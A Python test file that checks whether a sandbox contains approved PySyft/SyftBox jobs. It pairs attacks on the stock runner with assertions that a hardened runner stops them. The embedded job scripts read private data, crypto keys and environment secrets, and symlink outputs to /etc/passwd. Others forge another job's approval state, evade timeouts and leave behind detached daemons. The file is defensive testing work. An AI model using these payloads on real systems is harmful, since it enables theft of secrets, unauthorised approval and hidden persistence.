"""A12 to A16: an approved job looks round on the owner's machine, and does not end.

Approval is about code; a person can be deceived about it, so what an approved job cannot do
is as important. The stock runner starts it as the owner's own user.
"""

import gc
import os
import signal
import socket
import threading
import time
import warnings
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest

from tests.attack.pysyft.real_site import RealSite
from tests.attack.pysyft.stock import town as stock
from tests.sandbox.workshop import named, wait_for


CANARY = {place: f"canary-{place}-5f1c07" for place in ("data", "keys", "variable", "token")}


@pytest.fixture(scope="module")
def real(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RealSite]:
    """One for all jobs of this file; skips where this machine cannot contain anything."""
    site = RealSite(tmp_path_factory.mktemp("real") / "site")
    try:
        if site.real.problem is not None:
            pytest.skip(f"no sandbox here: {site.real.problem}")
        yield site
    finally:
        site.close()


# ------------------------------------------------------------------- A12a, b, c: what it reads

STOCK_LOOK = """
import glob, os
home = os.path.join(os.environ["SYFTBOX_FOLDER"], os.environ["SYFTBOX_EMAIL"], "private")
os.makedirs("outputs", exist_ok=True)
for name, found in [
    ("data", open(home + "/syft_datasets/yard/private.txt").read()),
    ("keys", open(home + "/crypto_keys.json").read()),
    ("variable", os.environ["STORAGE_SECRET"]),
]:
    open("outputs/" + name + ".txt", "w").write(found)
"""


@pytest.mark.attack("A12a", "A12b", "A12c", control="off")
def test_stock_a_job_reads_other_data_keys_and_variables_and_ships_them(town, monkeypatch):
    yard = town.site(stock.NORTH) / "private/syft_datasets/yard"
    yard.mkdir()
    (yard / "private.txt").write_text(CANARY["data"])
    monkeypatch.setenv("STORAGE_SECRET", CANARY["variable"])

    has = town.play(stock.BOB, STOCK_LOOK)

    keys = (town.site(stock.NORTH) / "private/crypto_keys.json").read_bytes()
    assert has == {
        "data.txt": CANARY["data"].encode(),
        "keys.txt": keys,
        "variable.txt": CANARY["variable"].encode(),
    }


# The words are in halves, or the job would find its own code.
LOOK = f"""
import json, os, sys
import syft as sy
words = {{name: a + b for name, a, b in {[(n, w[:6], w[6:]) for n, w in CANARY.items()]!r}}}
found, box = [repr(os.environ).encode()], os.environ["SYFTBOX_FOLDER"]
for top, folders, files in os.walk("/", followlinks=False):
    if top.startswith(("/proc", "/sys", "/usr", "/dev", sys.prefix, sys.base_prefix)):
        folders.clear()
        continue
    for name in files:
        try:
            found.append(open(os.path.join(top, name), "rb").read(1 << 16))
        except OSError:
            pass
for pid in [p for p in os.listdir("/proc") if p.isdecimal()] + ["self"]:
    for name in ("environ", "cmdline", "mountinfo"):
        try:
            found.append(open(f"/proc/{{pid}}/{{name}}", "rb").read())
        except OSError:
            pass
for guess in ("yard", "../yard", "..", "/", "plaza/../../../crypto_keys.json"):
    try:
        found.append(sy.resolve_dataset_file_path(guess).read_bytes())
    except (OSError, ValueError):
        pass
everything = b"\\n".join(found)
seen = {{name: everything.count(word.encode()) for name, word in words.items()}}
seen["own"] = len(sy.resolve_dataset_file_path("plaza").read_bytes()) > 10
json.dump({{name: int(n) for name, n in seen.items()}}, open("outputs/result.json", "w"))
print(seen)
"""


@pytest.mark.attack("A12a", "A12b", "A12c", control="on")
def test_a_job_sees_its_dataset_and_no_other_thing(real, monkeypatch):
    """Keys, another dataset and an account's token lie about, and nothing but walls is between."""
    monkeypatch.setenv("STORAGE_SECRET", CANARY["variable"])
    planted = {"footage/yard/private.txt": "data", "state/keys.json": "keys"}
    for path, place in (planted | {"secrets/token": "token"}).items():
        (real.folder / path).parent.mkdir(parents=True, exist_ok=True)
        (real.folder / path).write_text(CANARY[place])
        (real.folder / path).chmod(0o644)

    job, outcome = real.play(LOOK, *CANARY, "own")

    assert outcome.status == "done", outcome.log
    assert real.value(job) == {**dict.fromkeys(CANARY, 0), "own": 1}
    assert not any(word.encode() in outcome.log for word in CANARY.values())


# --------------------------------------------------------------------------- A12d: the network

DIAL = """
import json, os, socket
got = {{}}
os.makedirs("outputs", exist_ok=True)
for name, kind in (("tcp", socket.SOCK_STREAM), ("udp", socket.SOCK_DGRAM)):
    got[name] = 0
    for host in {hosts!r}:
        try:
            with socket.socket(socket.AF_INET, kind) as s:
                s.settimeout(1)
                s.connect((host, {ports!r}[name]))
                s.send(b"frame")
                got[name] += 1
        except OSError:
            pass
json.dump(got, open("outputs/result.json", "w"))
"""


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """A script that dials two sockets of this machine, and by which it was heard."""
    heard: list[str] = []
    hosts = ["127.0.0.1", "localhost"]
    with socket.socket() as tcp, socket.socket(type=socket.SOCK_DGRAM) as udp:
        for server in (tcp, udp):
            server.bind(("127.0.0.1", 0))
            server.settimeout(0.05)
        tcp.listen()
        over = threading.Event()

        def serve() -> None:
            while not over.is_set():
                with suppress(TimeoutError):
                    tcp.accept()[0].close()
                    heard.append("tcp")
                with suppress(TimeoutError):
                    udp.recvfrom(100)
                    heard.append("udp")

        thread = threading.Thread(target=serve)
        thread.start()
        ports = {"tcp": tcp.getsockname()[1], "udp": udp.getsockname()[1]}
        try:
            yield DIAL.format(hosts=hosts, ports=ports), heard
        finally:
            over.set()
            thread.join()


@pytest.mark.attack("A12d", control="off")
def test_stock_a_job_sends_what_it_likes_to_anybody(town):
    with listening() as (script, heard):
        town.play(stock.BOB, script)
        wait_for(lambda: {"tcp", "udp"} <= set(heard))


@pytest.mark.attack("A12d", control="on")
def test_no_job_is_heard_outside(real):
    with listening() as (script, heard):
        job, outcome = real.play(script, "tcp", "udp")
        assert outcome.status == "done", outcome.log
        # A datagram may be "sent" into the job's own empty network; nobody is there.
        assert real.value(job)["tcp"] == 0
        assert heard == []


# ------------------------------------------------------------------- A13: links among outputs

STOCK_LINK = """
import os
os.makedirs("outputs/deep", exist_ok=True)
home = os.path.join(os.environ["SYFTBOX_FOLDER"], os.environ["SYFTBOX_EMAIL"], "private")
os.symlink(home + "/crypto_keys.json", "outputs/keys.txt")
os.symlink("/etc/passwd", "outputs/system.txt")
os.link(home + "/syft_datasets/plaza/private.txt", "outputs/data.txt")
"""


@pytest.mark.attack("A13", control="off")
def test_stock_links_among_outputs_are_followed_and_shipped(town):
    has = town.play(stock.BOB, STOCK_LINK)

    assert has == {
        "keys.txt": (town.site(stock.NORTH) / "private/crypto_keys.json").read_bytes(),
        "system.txt": Path("/etc/passwd").read_bytes(),
        "data.txt": stock.SECRET.encode(),
    }


NO_FILES = {
    "a link to the system": "os.symlink('/etc/passwd', out)",
    "a link to itself": "os.symlink(out, out)",
    "a link to the dataset": "os.symlink(sy.resolve_dataset_file_path('plaza'), out)",
    "a link to the environment": "os.symlink('/proc/self/environ', out)",
    "a hard link": "open('x', 'w').write('{\"n\": 1}'); os.link('x', out)",
    "a pipe": "os.mkfifo(out)",
    "a socket": "import socket; socket.socket(socket.AF_UNIX).bind(out)",
    "a device": "os.mknod(out, 0o600 | stat.S_IFCHR, os.makedev(1, 5))",
    "a folder": "os.mkdir(out)",
    "a folder that is a link": "os.rmdir('outputs'); os.symlink('/etc', 'outputs')",
    "a deep file": "os.makedirs('outputs/deep'); open('outputs/deep/result.json', 'w').write('1')",
    "one file too many": "open(out, 'w').write('{\"n\": 1}'); open('outputs/keys.json', 'w')",
    "a file of another kind": "open(out, 'w').write('{\"n\": 1}'); open('outputs/x.png', 'w')",
    "too many": "[open(f'outputs/{i}.json', 'w') for i in range(60)]",
    "past our module": "from darkroom.runtime.places import current; "
    "os.symlink('/etc/passwd', current().out / 'result'); os._exit(0)",
    "too large": "open(out, 'wb').write(b' ' * (3 << 20) + b'{\"n\": 1}'); os.truncate(out, 2 << 30)",
}


@pytest.mark.attack("A13", control="on")
@pytest.mark.parametrize("way", NO_FILES.values(), ids=NO_FILES)
def test_only_regular_files_that_were_declared_are_outputs(real, way):
    job, outcome = real.play(
        f"import os, stat\nimport syft as sy\nout = 'outputs/result.json'\n{way}"
    )

    assert outcome.status in ("failed", "limit"), outcome.log
    if "mknod" not in way and "truncate" not in way and "_exit" not in way:  # walls were first
        assert outcome.error_class == "OutputError"
    assert real.overseen.left[-1] == {}
    assert real.state_of(job) == "failed"
    assert not real.bob.letters("job.result", job)


# ------------------------------------------------------------------------- A14: another state


@pytest.mark.attack("A14", control="off")
def test_stock_a_job_approves_the_next_one(town):
    town.say(stock.BOB, town.hostile_job(stock.BOB, "next"))
    state = str(town.site(stock.NORTH) / stock.review(stock.BOB, "next") / "state.yaml")

    town.play(stock.BOB, f"open({state!r}, 'w').write({stock.APPROVED!r})")

    assert town.state("next", by=stock.BOB) == "approved"


@pytest.mark.attack("A14", control="on")
def test_a_job_reaches_no_state(real):
    """It writes into its own box whatever it likes; the box ends with it."""
    waiting = real.honest()
    real.settle()
    before, row = real.footprint(), real.job(waiting)
    job, outcome = real.play(
        f"""
import json, os
tried = 0
places = [os.environ["SYFTBOX_FOLDER"] + "/" + os.environ["SYFTBOX_EMAIL"], {str(real.state)!r}, "/"]
for place in places:
    path = place + "/{stock.review("alice@darkroom")}"
    try:
        os.makedirs(path, exist_ok=True)
        open(path + "/state.yaml", "w").write({stock.APPROVED!r})
        tried += 1
    except OSError:
        pass
for name in ("node.db", "node.db-wal"):
    try:
        open({str(real.state)!r} + "/" + name, "r+b").write(b"x")
        tried += 100
    except OSError:
        pass
json.dump({{"n": tried}}, open("outputs/result.json", "w"))
"""
    )

    assert outcome.status == "done", outcome.log
    assert real.value(job)["n"] <= len(("own box", "own root"))
    assert real.job(waiting) == row
    more = real.footprint().keys() - before.keys() - real.shelved(job).keys()
    assert not [path for path in more if "state.yaml" in path]


# ----------------------------------------------------------------------- A15, A16: it goes on

ENDLESS = "import sys, time\nsys.stdout.write('no newline')\nsys.stdout.flush()\ntime.sleep({})\n"


@pytest.mark.attack("A15", control="off")
def test_stock_the_timeout_waits_for_a_newline(town):
    begin = time.monotonic()

    with warnings.catch_warnings():  # the runner leaves its pipes open
        warnings.simplefilter("ignore", ResourceWarning)
        town.play(stock.BOB, ENDLESS.format(2.5), stream=True, timeout=1)
        gc.collect()

    assert time.monotonic() - begin > 2.5
    assert town.state(by=stock.BOB) == "done"


@pytest.mark.attack("A15", control="on")
def test_the_clock_of_a_job_does_not_listen_to_it(real):
    begin = time.monotonic()

    job, outcome = real.play(ENDLESS.format(60), wall_seconds=1)

    assert time.monotonic() - begin < 20
    assert outcome.status == "limit"
    assert "1 s" in outcome.limit
    assert real.state_of(job) == "failed"


DAEMON = """
import ctypes, json, os, time
os.makedirs("outputs", exist_ok=True)
json.dump({"n": 1}, open("outputs/result.json", "w"))
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in range(3):
            os.close(fd)
        ctypes.CDLL(None).prctl(15, b"a16-daemon")
        open(MARK, "w").write(str(os.getpid()))
        time.sleep(120)
    os._exit(0)
os.wait()
while not os.path.exists(MARK):
    time.sleep(0.01)
"""


@pytest.mark.attack("A16", control="off")
def test_stock_a_daemon_survives_its_job(town):
    mark = town.folder / "pid"
    try:
        town.play(stock.BOB, DAEMON.replace("MARK", repr(str(mark))))

        assert town.state(by=stock.BOB) == "done"
        assert named("a16-daemon") == 1
    finally:
        if mark.exists():
            os.kill(int(mark.read_text()), signal.SIGKILL)
            wait_for(lambda: named("a16-daemon") == 0)


@pytest.mark.attack("A16", control="on")
def test_no_daemon_survives_its_job(real):
    job, outcome = real.play(DAEMON.replace("MARK", "'mark'"))

    assert outcome.status == "done", outcome.log
    assert named("a16-daemon") == 0
    assert real.value(job) == {"n": 1}
